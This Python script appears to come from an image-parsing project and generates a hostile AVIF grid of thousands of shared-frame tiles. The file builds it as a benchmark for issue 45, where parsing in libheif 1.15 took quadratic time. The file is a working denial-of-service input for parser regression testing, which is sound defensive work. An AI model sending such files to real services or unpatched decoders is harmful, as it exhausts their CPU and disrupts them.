#!/usr/bin/env python3
"""Writes issue 45's hostile AVIF: a grid of many 128 x 128 tiles (a benchmark input, not a test).

A grid image (ISO/IEC 23008-12 6.6.2.3.2) is one `grid` item whose `dimg` references name
its tiles; each tile is an `av01` item of its own with its own `infe`, `iloc` entry and
`ipma` associations. libheif 1.15 and the project's own box walk before issue 45 spent time
quadratic in the number of items reading such a file, so an 800 KB file of a few thousand
tiles cost about 30 s of CPU before a single pixel was decoded.

Every tile is the same 128 x 128 AV1 key frame: `heif-enc --avif -q 30` (libheif-examples
1.15.1 with libaom 3.6) from a 128 x 128 PNG of a horizontal and vertical ramp; its sequence
header says 128 x 128, so the project's coded-size check (HEIFCodedSizeCheck) passes every
tile, as it would for a real file. The grid is COLUMNS x ROWS tiles (at most 256 each, the
grid descriptor's limit). Each tile has a copy of the frame, as an encoder would write it
(68 x 68 = 4,624 tiles make about 800 KB), or with --shared every tile's `iloc` entry
points at one copy, which packs the most items into the bytes: 134 x 134 = 17,956 tiles
(under libheif 1.15's own limit of 20,000 items) make about 800 KB, the issue's attack.

Usage: hostile_grid.py OUT [COLUMNS [ROWS]] [--shared]
"""
import struct
import sys

# av1C (after its box header) and the AV1 OBUs of the one tile (temporal delimiter,
# sequence header, frame), as heif-enc wrote them.
AV1C = bytes.fromhex("81000c00")
TILE = bytes.fromhex(
    "12000a091819bfff6081010342327012c0069a69a100bf5cd65449c91e4be209de1887e92a309ebb"
    "bd47a2321482f70a0174ed7b8fc37112d1fb21fe4d8f099751dcb14b50f6d40b9026579a2427e6dd"
    "1ebb3d91b7c22e2223d564e1059018632722e7c5023ebb773dab3d0e8210416460f12f9198000bad"
    "e3e7f79eb232a8")
TILE_SIZE = 128


def box(kind, body):
    return struct.pack(">I", 8 + len(body)) + kind + body


def full_box(kind, version, flags, body):
    return box(kind, struct.pack(">I", version << 24 | flags) + body)


def grid_avif(columns, rows, tile=TILE, shared=False):
    count = columns * rows
    grid_id, first_tile = 1, 2
    descriptor = struct.pack(">BBBBHH", 0, 0, rows - 1, columns - 1, columns * TILE_SIZE, rows * TILE_SIZE)

    ftyp = box(b"ftyp", b"avif" + struct.pack(">I", 0) + b"avifmif1miaf")
    hdlr = full_box(b"hdlr", 0, 0, struct.pack(">I", 0) + b"pict" + bytes(12) + b"\x00")
    pitm = full_box(b"pitm", 0, 0, struct.pack(">H", grid_id))
    infes = [full_box(b"infe", 2, 0, struct.pack(">HH", grid_id, 0) + b"grid" + b"\x00")]
    infes += [full_box(b"infe", 2, 1, struct.pack(">HH", first_tile + n, 0) + b"av01" + b"\x00") for n in range(count)]
    iinf = full_box(b"iinf", 0, 0, struct.pack(">H", count + 1) + b"".join(infes))
    dimg = box(b"dimg", struct.pack(">HH", grid_id, count) + b"".join(struct.pack(">H", first_tile + n) for n in range(count)))
    iref = full_box(b"iref", 0, 0, dimg)
    # Properties, indexed from 1: the tiles' av1C and ispe, the grid's ispe, pixi for both.
    ipco = box(b"ipco", box(b"av1C", AV1C)
               + full_box(b"ispe", 0, 0, struct.pack(">II", TILE_SIZE, TILE_SIZE))
               + full_box(b"ispe", 0, 0, struct.pack(">II", columns * TILE_SIZE, rows * TILE_SIZE))
               + full_box(b"pixi", 0, 0, b"\x03\x08\x08\x08"))
    entries = [struct.pack(">HB", grid_id, 2) + bytes([3, 4])]
    entries += [struct.pack(">HB", first_tile + n, 3) + bytes([0x81, 2, 4]) for n in range(count)]
    ipma = full_box(b"ipma", 0, 0, struct.pack(">I", count + 1) + b"".join(entries))
    iprp = box(b"iprp", ipco + ipma)

    def meta_with(data_offset):
        # iloc version 0, 4-byte offsets and lengths, no base offset: one extent per item.
        locations = [struct.pack(">HHHII", grid_id, 0, 1, data_offset, len(descriptor))]
        at = data_offset + len(descriptor)
        for n in range(count):
            locations.append(struct.pack(">HHHII", first_tile + n, 0, 1, at, len(tile)))
            at += 0 if shared else len(tile)
        iloc = full_box(b"iloc", 0, 0, struct.pack(">BBH", 0x44, 0x00, count + 1) + b"".join(locations))
        return full_box(b"meta", 0, 0, hdlr + pitm + iloc + iinf + iref + iprp)

    # The offsets depend on meta's size, which does not depend on their values.
    data_offset = len(ftyp) + len(meta_with(0)) + 8
    mdat = box(b"mdat", descriptor + tile * (1 if shared else count))
    return ftyp + meta_with(data_offset) + mdat


if __name__ == "__main__":
    shared = "--shared" in sys.argv
    arguments = [a for a in sys.argv[1:] if a != "--shared"]
    out = arguments[0]
    columns = int(arguments[1]) if len(arguments) > 1 else 68
    rows = int(arguments[2]) if len(arguments) > 2 else columns
    assert 1 <= columns <= 256 and 1 <= rows <= 256, "a grid has at most 256 columns and rows"
    data = grid_avif(columns, rows, shared=shared)
    with open(out, "wb") as f:
        f.write(data)
    kind = "sharing one frame" if shared else "each with its own frame"
    print(f"{out}: {columns} x {rows} tiles of {TILE_SIZE} x {TILE_SIZE} {kind}, {len(data)} bytes")
